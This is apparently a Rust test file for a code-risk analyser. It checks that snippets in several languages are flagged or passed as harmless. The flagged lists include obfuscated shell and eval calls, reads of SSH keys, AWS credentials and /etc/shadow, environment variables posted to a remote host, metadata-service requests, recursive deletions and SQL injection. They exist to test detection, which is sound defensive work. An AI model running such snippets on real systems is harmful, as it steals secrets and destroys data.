mod outside;
mod places;
mod services;

use proptest::prelude::*;

use super::Language as L;
use super::table::{Does, Table};
use super::*;
use crate::model::{EffectKind, Level};
use crate::weigh::weigh;

fn level(language: L, text: &str) -> Level {
    let context = Context::default();
    weigh(&source(language, text, &context), &context).0
}

fn check(language: L, asked: bool, rows: &[&str]) {
    for text in rows {
        let found = source(language, text, &Context::default());
        assert_eq!(level(language, text) > Level::Low, asked, "{language:?} {text}\n{found:#?}");
    }
}

#[test]
fn the_shipped_table_parses() {
    let table = Table::parse().expect("data/code.toml");
    assert_eq!(table.exact(L::TypeScript, "child_process.exec").map(|rule| rule.does), Some(Does::Shell));
}

#[test]
fn python_calls_are_resolved() {
    check(
        L::Python,
        true,
        &[
            "import os as o\no.system(x)",
            "from subprocess import *\ngetoutput(x)",
            "from os import system as s\ns(user)",
            "f = getattr(__import__('o' + 's'), 'sys' + 'tem')\nf(x)",
            "import shutil\nd = '/srv' + '/data'\nshutil.rmtree(d)",
            "import os\nfor p in ['a.txt', '/etc/hosts']:\n    os.remove(p)",
            "open('/etc/hosts', 'w').write('x')",
            "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()",
            "from pathlib import Path\nPath('/etc/hosts').unlink()",
            "exec(bytes.fromhex('696d706f7274').decode())\neval(x)",
            "builtins.eval(x)",
            "list(map(os.system, cmds))",
            "import requests, os\nrequests.post('https://example.net', data=os.environ)",
            "print(os.environ)",
            "globals()['__builtins__']['eval'](x)",
            "cur.execute('DROP TABLE t')",
            "cur.execute(f\"SELECT * FROM t WHERE a = '{x}'\")",
            "c = 'ls'\nif x:\n    c = y\nos.system(c)",
            "getattr(os, name)(x)",
            "yaml.load(x)",
            "os.setuid(0)",
            "subprocess.run(['bash', '-c', x])",
            "subprocess.run(args)",
            "requests.get('http://169.254.169.254/latest')",
            "requests.get(u, verify=False)",
            "__import__(name)",
            "open(p, 'w')",
            "def broken(:",
            "os.system(f'tar {x}')",
        ],
    );
}

#[test]
fn harmless_python_is_not_asked() {
    check(
        L::Python,
        false,
        &[
            "# os.system('rm -rf /')",
            "x = \"os.system('rm')\"",
            "df.eval('a + b')",
            "import re\nre.compile('x').match(y)",
            "open('out/report.txt', 'w').write(text)",
            "open(path).read()",
            "import json\njson.loads(x)",
            "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
            "import os\nos.makedirs('build', exist_ok=True)\nos.path.join('a', b)",
            "cur.execute('SELECT * FROM t WHERE a = %s', (x,))",
            "cur.execute('INSERT INTO t VALUES (%(a)s)', d)",
            "requests.get('https://api.example.com/items')",
            "yaml.load(x, Loader=yaml.SafeLoader)",
            "token = os.environ['TOKEN']\nassert token",
            "def system(x):\n    return x\nsystem('rm -rf /')",
            "shutil.rmtree('build')",
            "import sys\nsys.exit(1)",
            "class Model:\n    def exec(self):\n        return 1\nModel().exec()",
            "names.remove('x')",
            "os.remove('target/x.o')",
        ],
    );
}

#[test]
fn javascript_calls_are_resolved() {
    check(
        L::JavaScript,
        true,
        &[
            "const { execSync: run } = require('node:child_process'); run(x)",
            "import * as cp from 'child_process'; cp.exec(`ls ${x}`)",
            "import fs from 'fs'; fs.rmSync('/srv/x', { recursive: true })",
            "const e = eval; e(x)",
            "(0, eval)(x)",
            "window['e' + 'val'](x)",
            "setTimeout('go(' + x + ')', 1)",
            "new Function(body)()",
            "[].constructor.constructor(x)()",
            "require('child_process')['exe' + 'c'](x)",
            "process.mainModule.require('child_process').execSync(x)",
            "fs.readFileSync('/home/agent/.ssh/id_rsa')",
            "fs.promises.unlink(p)",
            "fetch('https://example.net', { method: 'POST', body: JSON.stringify(process.env) })",
            "app.get('/x', () => process.exit(1))",
            "fs.writeFileSync(`${process.env.HOME}/.bashrc`, x)",
            "eval(atob(x))",
            "const m = require('util').promisify(require('child_process').exec); m(x)",
            "files.forEach(fs.unlinkSync)",
            "eval.call(null, x)",
            "globalThis[name](x)",
            "db.query('DELETE FROM users')",
            "db.query(`SELECT * FROM t WHERE a = '${x}'`)",
            "axios.delete('https://api.example.com/users/1')",
            "spawn = require('child_process').spawn; spawn(cmd, args)",
        ],
    );
    check(
        L::TypeScript,
        true,
        &["import { exec } from 'child_process';\nconst c: string = x;\nexec(c as string);"],
    );
}

#[test]
fn harmless_javascript_is_not_asked() {
    check(
        L::JavaScript,
        false,
        &[
            "const re = /x/; re.exec(line)",
            "// eval(x)",
            "const s = 'eval(x)'; console.log(s)",
            "fs.readFileSync(path.join(__dirname, 'a.json'))",
            "fs.writeFileSync('dist/out.js', code)",
            "fetch('https://api.example.com/items').then(r => r.json())",
            "setTimeout(() => go(), 100)",
            "const x = require('./local')(app)",
            "db.query('SELECT * FROM t WHERE a = $1', [x])",
            "fs.rmSync('dist', { recursive: true, force: true })",
            "if (bad) process.exit(2)",
            "console.log(process.env.NODE_ENV)",
            "arr.map(f).filter(Boolean).join(',')",
            "function exec(a) { return a } exec(1)",
            "const d = fs.mkdtempSync('x'); fs.rmSync(d, { recursive: true })",
            "const child = tree.spawnNode()",
        ],
    );
    check(L::TypeScript, false, &["interface A { exec(x: string): void }\nconst a: number = 1;"]);
}

#[test]
fn ruby_go_and_rust_calls_are_resolved() {
    check(
        L::Ruby,
        true,
        &[
            "system(x)",
            "`#{x}`",
            "eval(params[:x])",
            "FileUtils.rm_rf('/srv')",
            "Kernel.send(:system, x)",
            "open(\"|#{x}\")",
            "Marshal.load(x)",
            "IO.popen(x)",
            "File.delete('/etc/hosts')",
            "obj.instance_eval(x)",
            "User.delete_all",
            "Object.const_get('Ker' + 'nel').send('sys' + 'tem', x)",
            "File.read('/etc/shadow')",
        ],
    );
    check(
        L::Go,
        true,
        &[
            "package main\nimport \"os/exec\"\nfunc main() { exec.Command(\"sh\", \"-c\", x).Run() }",
            "package main\nimport e \"os/exec\"\nfunc main() { e.Command(x).Run() }",
            "os.RemoveAll(\"/srv/\" + x)",
            "os.WriteFile(\"/etc/hosts\", b, 0o644)",
            "db.Exec(\"DELETE FROM users\")",
            "db.Exec(fmt.Sprintf(\"DELETE FROM users WHERE a = '%s'\", x))",
            "p := \"/etc/\" + \"shadow\"\nos.ReadFile(p)",
            "http.Post(u, \"text/plain\", b)",
            "syscall.Exec(x, y, z)",
        ],
    );
    check(
        L::Rust,
        true,
        &[
            "use std::process::Command as C; fn main() { C::new(\"sh\").arg(\"-c\").arg(x).spawn(); }",
            "use std::fs; fn main() { fs::remove_dir_all(\"/srv\").unwrap(); }",
            "fn main() { let mut c = std::process::Command::new(p); c.arg(\"x\"); c.status(); }",
            "fn main() { std::fs::write(\"/etc/hosts\", b).unwrap(); }",
            "fn main() { unsafe { libc::system(c) }; }",
            "use std::fs::*; fn main() { remove_dir_all(p); }",
        ],
    );
}

#[test]
fn harmless_ruby_go_and_rust_is_not_asked() {
    check(
        L::Ruby,
        false,
        &[
            "puts 'system(x)'",
            "# eval x",
            "File.read('a.txt')",
            "x.map { |y| y + 1 }",
            "def run(x) = x",
            "File.write('tmp/a', 'b')",
        ],
    );
    check(
        L::Go,
        false,
        &[
            "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"os.RemoveAll\") }",
            "os.ReadFile(path)",
            "db.Query(\"SELECT 1\")",
            "d, _ := os.MkdirTemp(\"\", \"x\")\ndefer os.RemoveAll(d)",
        ],
    );
    check(
        L::Rust,
        false,
        &[
            "fn main() { println!(\"Command::new\"); }",
            "let x = s.parse::<u32>()?;",
            "let t = std::fs::read_to_string(p)?;",
            "use std::collections::HashMap; fn f(m: &mut HashMap<u8, u8>) { m.remove(&1); }",
            "fs::write(\"target/x\", b)?;",
            "map.join(\"x\");",
        ],
    );
}

#[test]
fn a_language_without_a_grammar_is_a_gap() {
    for language in [L::Perl, L::Php, L::Lua] {
        assert!(!source(language, "print 1", &Context::default()).unresolved.is_empty());
    }
}

#[test]
fn effects_lie_where_their_call_does() {
    let text = "x = 1\nopen('/etc/hosts', 'w')";
    let found = source(L::Python, text, &Context::default());
    let effect = found.effects.iter().find(|effect| effect.kind == EffectKind::Write).expect("an effect");
    assert_eq!(effect.span, 6..text.len());
}

#[test]
fn depth_costs_no_stack() {
    for text in [
        "(".repeat(20_000),
        "[".repeat(20_000),
        "f(".repeat(20_000),
        "a+".repeat(20_000),
        "x.".repeat(20_000),
    ] {
        for language in [L::Python, L::JavaScript, L::TypeScript, L::Ruby, L::Go, L::Rust] {
            let _ = source(language, &text, &Context::default());
        }
    }
}

#[test]
fn values_do_not_grow_without_end() {
    for step in ["x = x + x\n", "x = [x, x]\n", "x = [x]\n", "x += x\n"] {
        let text = format!("x = 'aaaaaaaa'\n{}os.system(x)", step.repeat(2_000));
        assert!(level(L::Python, &text) > Level::Low, "{step}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]
    #[test]
    fn any_text_has_an_answer(text in ".{0,200}", at in 0_usize..6) {
        let languages = [L::Python, L::JavaScript, L::TypeScript, L::Ruby, L::Go, L::Rust];
        if let Some(language) = languages.get(at) {
            let _ = source(*language, &text, &Context::default());
        }
    }
}
